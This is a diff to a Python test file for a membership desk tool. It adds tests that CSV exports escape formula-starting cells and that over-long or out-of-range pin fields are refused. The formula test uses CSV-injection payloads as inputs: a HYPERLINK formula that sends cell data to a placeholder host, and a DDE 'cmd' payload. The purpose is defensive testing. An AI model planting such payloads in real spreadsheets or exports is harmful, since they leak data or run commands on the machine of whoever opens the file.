@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 from datetime import date, datetime, timedelta
 from decimal import Decimal
 
@@ -303,3 +305,31 @@ def test_the_list_asks_the_panel_nothing(office: Desk, operator: Operator) -> No
 def test_the_moment_shown_is_the_last_recalculation(office: Desk, operator: Operator) -> None:
     operator.apply(date(2025, 1, 21))
     assert office.rows("members")[0]["decided"] == str(datetime(2025, 1, 21, 12))[:16]
+
+
+def test_no_cell_of_the_export_begins_a_formula(desk: Desk) -> None:
+    names = ('=HYPERLINK("http://x.example/?"&A1,"invoice")', "+7 999 123", "@SUM(A1)", "-5", "x;=1+1")
+    for number, name in enumerate(names, 1):
+        desk.store.standings.keep(Standing(AccountId(number), name, Basis.TURNOVER, "=cmd|' /C calc'!A0"))
+    rows = [*csv.reader(io.StringIO(desk.ask("members.export").findtext("csv")))][1:]
+    assert sorted(row[1] for row in rows) == sorted([*(f"'{name}" for name in names[:4]), "x;'=1+1"])
+    assert {row[3] for row in rows} == {"'=cmd|' /C calc'!A0"}
+
+
+@pytest.mark.parametrize(
+    ("typed", "field", "says"),
+    [
+        ({"pin_until": "9999-12-31"}, "pin_until", "out of range"),
+        ({"pin_until": "0001-01-15"}, "pin_until", "out of range"),
+        ({"pin_reason": "x" * 1001}, "pin_reason", "too long"),
+        ({"reason": "x" * 1001, "standing": "excluded"}, "reason", "too long"),
+    ],
+)
+def test_a_pin_or_reason_out_of_bounds_is_refused_at_its_field(
+    desk: Desk, typed: dict[str, str], field: str, says: str
+) -> None:
+    desk.store.standings.keep(Standing(AccountId(27), "Atlas"))
+    pin = {"pinned": "on", "pin_tier": "Starter", "pin_until": "2025-03-01", "pin_reason": "contract"}
+    message, marked = desk.refused("members.edit", elid=27, **{**pin, **typed})
+    assert (marked, says in message) == (field, True)
+    assert desk.store.members.all() == []
